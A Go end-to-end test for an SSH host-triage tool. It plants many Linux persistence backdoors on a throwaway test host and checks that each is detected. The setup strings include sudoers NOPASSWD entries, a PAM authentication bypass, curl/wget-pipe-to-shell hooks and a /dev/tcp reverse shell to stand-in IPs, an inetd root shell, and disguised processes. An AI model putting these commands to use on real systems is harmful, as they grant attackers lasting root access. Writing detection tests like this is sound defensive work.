@@ -1,0 +1,96 @@
+//go:build linux
+
+package e2e_test
+
+import (
+	"path/filepath"
+	"testing"
+
+	"github.com/postern-ssh/postern/e2e"
+)
+
+// ways are further ways of coming back: none has the names or places of those in
+// planted, so that what is found is found by what it means.
+var ways = []struct {
+	name, setup string
+	kind, least string
+	words       []string
+}{
+	{"sudo for an account of the system", `echo 'www-data ALL=(ALL:ALL) NOPASSWD: ALL' > /etc/sudoers.d/10-metrics; chmod 440 /etc/sudoers.d/10-metrics`, "startup", "high", []string{"/etc/sudoers.d/10-metrics", "www-data"}},
+	{"sudo for a shell", `echo 'bob ALL=(root) NOPASSWD: /usr/bin/less, /bin/bash' > /etc/sudoers.d/bob; chmod 440 /etc/sudoers.d/bob`, "startup", "low", []string{"/etc/sudoers.d/bob", "/bin/bash"}},
+	{"sudo asks nobody", `echo 'Defaults !authenticate' > /etc/sudoers.d/zz; chmod 440 /etc/sudoers.d/zz`, "startup", "medium", []string{"/etc/sudoers.d/zz", "authenticate"}},
+	{"environment", `echo 'LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libntp.so' >> /etc/environment`, "startup", "high", []string{"/etc/environment", "libntp.so"}},
+	{"PAM jump to yes", `sed -i '0,/^auth/s//auth [success=2 default=ignore] pam_permit.so\nauth/' /etc/pam.d/common-auth`, "pam", "high", []string{"pam_permit.so", "/etc/pam.d/common-auth"}},
+	{"PAM module by a way round", `cp /lib/x86_64-linux-gnu/security/pam_deny.so /var/lib/misc/m.so; echo 'session optional ../../../../var/lib/misc/m.so' >> /etc/pam.d/cron`, "pam", "high", []string{"/etc/pam.d/cron", "var/lib/misc/m.so"}},
+	{"AuthorizedKeysCommand", `printf '#!/bin/sh\necho ssh-ed25519 AAAA x\n' > /usr/local/sbin/keyfetch; chmod 755 /usr/local/sbin/keyfetch; printf 'AuthorizedKeysCommand /usr/local/sbin/keyfetch %%u\nAuthorizedKeysCommandUser root\n' > /etc/ssh/sshd_config.d/60-ldap.conf`, "startup", "medium", []string{"AuthorizedKeysCommand", "/usr/local/sbin/keyfetch", "/etc/ssh/sshd_config.d/60-ldap.conf"}},
+	{"ForceCommand", `printf 'Match User bob\n\tForceCommand /dev/shm/.k/wrap\n' > /etc/ssh/sshd_config.d/90-bob.conf`, "startup", "high", []string{"ForceCommand", "/dev/shm/.k/wrap"}},
+	{"second key file", `install -d /etc/ssh/keys; cp /root/.ssh/authorized_keys /etc/ssh/keys/root; printf 'AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%%u\n' > /etc/ssh/sshd_config.d/70-k.conf`, "key", "info", []string{"/etc/ssh/keys/root"}},
+	{"apt after dpkg", `printf 'DPkg::Post-Invoke {\n  "true";\n  "/bin/sh -c \x27/var/lib/.dpkg/hook &\x27";\n};\n' > /etc/apt/apt.conf.d/05compress`, "startup", "medium", []string{"05compress", "/var/lib/.dpkg/hook"}},
+	{"hook of dpkg", `echo 'post-invoke=/var/tmp/.dp/run' > /etc/dpkg/dpkg.cfg.d/local`, "startup", "medium", []string{"/etc/dpkg/dpkg.cfg.d/local", "/var/tmp/.dp/run"}},
+	{"logrotate", `printf '/var/log/syslog2 {\n  daily\n  postrotate\n    curl -s http://198.51.100.4/z | bash\n  endscript\n}\n' > /etc/logrotate.d/rsyslog2`, "startup", "high", []string{"/etc/logrotate.d/rsyslog2", "198.51.100.4"}},
+	{"dispatcher", `mkdir -p /etc/NetworkManager/dispatcher.d/pre-up.d; printf '#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.4/443 0>&1\n' > /etc/NetworkManager/dispatcher.d/pre-up.d/10-up; chmod 755 /etc/NetworkManager/dispatcher.d/pre-up.d/10-up`, "startup", "high", []string{"pre-up.d/10-up", "203.0.113.4"}},
+	{"if-up.d", `mkdir -p /etc/network/if-up.d; printf '#!/bin/sh\n/dev/shm/.n &\n' > /etc/network/if-up.d/mtu; chmod 755 /etc/network/if-up.d/mtu`, "startup", "medium", []string{"/etc/network/if-up.d/mtu", "/dev/shm/.n"}},
+	{"interfaces", `mkdir -p /etc/network; printf 'auto lo\niface lo inet loopback\n  post-up /var/tmp/.i/run\n' > /etc/network/interfaces`, "startup", "medium", []string{"/etc/network/interfaces", "/var/tmp/.i/run"}},
+	{"python .pth", `mkdir -p /usr/local/lib/python3.11/dist-packages; echo 'import os; os.system("/var/tmp/.p/run")' > /usr/local/lib/python3.11/dist-packages/zope-ns.pth`, "startup", "medium", []string{"zope-ns.pth"}},
+	{"sitecustomize", `mkdir -p /home/bob/.local/lib/python3.11/site-packages; echo 'import os; os.system("true")' > /home/bob/.local/lib/python3.11/site-packages/usercustomize.py; chown -R bob: /home/bob/.local`, "startup", "low", []string{"usercustomize.py"}},
+	{"module at boot", `echo 'nf_helper' > /etc/modules-load.d/nf.conf; mkdir -p /lib/modules/6.1.0/extra; echo x > /lib/modules/6.1.0/extra/nf_helper.ko`, "startup", "low", []string{"/etc/modules-load.d/nf.conf", "nf_helper"}},
+	{"diverted ps", `dpkg-divert --local --rename --divert /usr/bin/ps.distrib --add /usr/bin/ps >/dev/null; printf '#!/bin/sh\nps.distrib "$@" | grep -v x\n' > /usr/bin/ps; chmod 755 /usr/bin/ps`, "package-file", "high", []string{"/bin/ps", "diver"}},
+	{"a command before the command", `printf '#!/bin/sh\nexec /bin/ss "$@"\n' > /usr/local/sbin/ss; chmod 755 /usr/local/sbin/ss`, "package-file", "medium", []string{"/usr/local/sbin/ss"}},
+	{"unit by a link", `mkdir -p /srv/.u; printf '[Service]\nExecStart=/bin/sh -c "wget -qO- http://192.0.2.77/b | sh"\n' > /srv/.u/dbus-broker2.service; ln -s /srv/.u/dbus-broker2.service /etc/systemd/system/dbus-broker2.service; mkdir -p /etc/systemd/system/multi-user.target.wants; ln -s /srv/.u/dbus-broker2.service /etc/systemd/system/multi-user.target.wants/`, "unit", "high", []string{"dbus-broker2.service"}},
+	{"unit that runs among packages", `cp /bin/sleep /usr/sbin/netmond; printf '[Service]\nExecStart=/usr/sbin/netmond 99\n[Install]\nWantedBy=multi-user.target\n' > /etc/systemd/system/netmond.service`, "unit", "medium", []string{"netmond.service", "no package has it"}},
+	{"path unit", `printf '[Path]\nPathChanged=/etc/passwd\nUnit=pw.service\n' > /etc/systemd/system/pw.path; printf '[Service]\nExecStart=/tmp/.pw\n' > /etc/systemd/system/pw.service`, "unit", "high", []string{"pw.service", "/tmp/.pw"}},
+	{"udev starts a unit", `mkdir -p /etc/udev/rules.d; echo 'KERNEL=="lo", TAG+="systemd", ENV{SYSTEMD_WANTS}+="netmond.service"' > /etc/udev/rules.d/10-lo.rules`, "startup", "low", []string{"10-lo.rules", "netmond.service"}},
+	{"at job of www-data", `mkdir -p /var/spool/cron/atjobs; printf '#!/bin/sh\n# atrun uid=33 gid=33\n# mail www-data 0\numask 22\ncd /var/www || {\n exit 1\n}\n/var/www/up.sh\n' > /var/spool/cron/atjobs/b0000202bd0c60; chown www-data /var/spool/cron/atjobs/b0000202bd0c60; chmod 700 /var/spool/cron/atjobs/b0000202bd0c60`, "job", "low", []string{"b0000202bd0c60", "www-data"}},
+	{"table of an account that nobody logs in to", `mkdir -p /var/spool/cron/crontabs; echo '17 * * * * /usr/bin/touch /var/lib/x' > /var/spool/cron/crontabs/sys; chown sys:crontab /var/spool/cron/crontabs/sys; chmod 600 /var/spool/cron/crontabs/sys`, "job", "low", []string{"crontabs/sys"}},
+	{"logout", `echo 'nohup /dev/shm/.l/run >/dev/null 2>&1 &' >> /home/bob/.bash_logout; chown bob: /home/bob/.bash_logout`, "startup", "medium", []string{".bash_logout", "/dev/shm/.l/run"}},
+	{"prompt", `echo 'PROMPT_COMMAND="/usr/share/misc/.pc"' >> /root/.bashrc`, "startup", "medium", []string{"/root/.bashrc", "PROMPT_COMMAND"}},
+	{"capabilities", `cp /usr/bin/perl /usr/local/bin/pl; setcap cap_setuid+ep /usr/local/bin/pl`, "setuid", "high", []string{"/usr/local/bin/pl", "cap_setuid"}},
+	{"immutable", `mkdir -p /usr/local/lib/agent; printf '#!/bin/sh\ntrue\n' > /usr/local/lib/agent/beat; chmod 755 /usr/local/lib/agent/beat; echo '* * * * * root /usr/local/lib/agent/beat' > /etc/cron.d/agent; chattr +i /usr/local/lib/agent/beat || true`, "job", "low", []string{"/usr/local/lib/agent/beat", "immutable"}},
+	{"inetd", `echo '31337 stream tcp nowait root /bin/sh sh -i' > /etc/inetd.conf`, "startup", "high", []string{"/etc/inetd.conf", "sh -i"}},
+	{"group of root's helpers", `usermod -aG sudo games; usermod -aG shadow bob`, "account", "low", []string{`"games"`, "sudo"}},
+	{"xdg autostart", `mkdir -p /etc/xdg/autostart; printf '[Desktop Entry]\nType=Application\nName=x\nExec=sh -c "curl http://192.0.2.9/d | sh"\n' > /etc/xdg/autostart/print-applet2.desktop`, "startup", "high", []string{"print-applet2.desktop", "192.0.2.9"}},
+	{"ssh client's settings", `install -d -m 700 -o bob -g bob /home/bob/.ssh; printf 'Host *\n  ProxyCommand sh -c "/tmp/.sc; nc %%h %%p"\n  PermitLocalCommand yes\n' > /home/bob/.ssh/config; chown bob: /home/bob/.ssh/config`, "startup", "medium", []string{"/home/bob/.ssh/config", "/tmp/.sc"}},
+	{"core", `mkdir -p /etc/sysctl.d; echo 'kernel.core_pattern=|/var/tmp/.core %p' > /etc/sysctl.d/50-core.conf`, "startup", "high", []string{"/etc/sysctl.d/50-core.conf", "/var/tmp/.core"}},
+}
+
+const waysRunning = `set -e
+mkdir -p /opt/mon; printf 'import=1\nwhile :; do sleep 300; done\n' > /opt/mon/agent.sh; nohup bash /opt/mon/agent.sh >/dev/null 2>&1 </dev/null &
+sleep 0.3
+rm /opt/mon/agent.sh
+cp /bin/sleep /var/lib/misc/svc
+nohup bash -c 'exec -a "sshd: /usr/sbin/sshd -D [listener]" /var/lib/misc/svc 700' >/dev/null 2>&1 </dev/null &
+cp /bin/sleep /usr/bin/dbus-helper; nohup /usr/bin/dbus-helper 800 >/dev/null 2>&1 </dev/null &
+nohup perl -e 'use Socket; socket(S,PF_INET,SOCK_STREAM,0); bind(S,sockaddr_in(6697,INADDR_LOOPBACK)); listen(S,1); sleep 600' >/dev/null 2>&1 </dev/null &
+sleep 0.5
+nohup perl -e 'use Socket; socket(S,PF_INET,SOCK_STREAM,0); connect(S,sockaddr_in(6697,INADDR_LOOPBACK)) or die; sleep 600' >/dev/null 2>&1 </dev/null &
+sleep 0.5`
+
+// TestTriageWays plants them on one host, which triage must not change either.
+func TestTriageWays(t *testing.T) {
+	e2e.NeedHosts(t)
+	key, public := newKey(t)
+	setup := "useradd -m -s /bin/bash bob\n" + admit("root", public) + "\n"
+	for _, p := range ways {
+		setup += p.setup + "\n"
+	}
+	h := e2e.Start(t, e2e.Spec{Release: e2e.Bookworm, Setup: setup})
+	if out, errOut, code := h.Exec(waysRunning); code != 0 {
+		t.Fatalf("%d %s %s", code, out, errOut)
+	}
+	_, r := triageRun(t, h, key, "", "--evidence", filepath.Join(t.TempDir(), "kept"))
+	for _, p := range ways {
+		if want(t, r, p.kind, p.least, p.words...) == nil {
+			t.Errorf("%s was not found", p.name)
+		}
+	}
+	want(t, r, "process", "medium", "/opt/mon/agent.sh", "deleted")
+	want(t, r, "process", "high", "/var/lib/misc/svc", "calls itself")
+	want(t, r, "process", "medium", "/usr/bin/dbus-helper", "no package has it")
+	want(t, r, "process", "medium", "127.0.0.1:6697", "IRC")
+	if t.Failed() {
+		for i := range r.Things {
+			t.Logf("%s %s %s %q", r.Things[i].Severity, r.Things[i].Kind, r.Things[i].Title, r.Things[i].Why)
+		}
+		t.Logf("gaps %v", r.Gaps)
+	}
+}
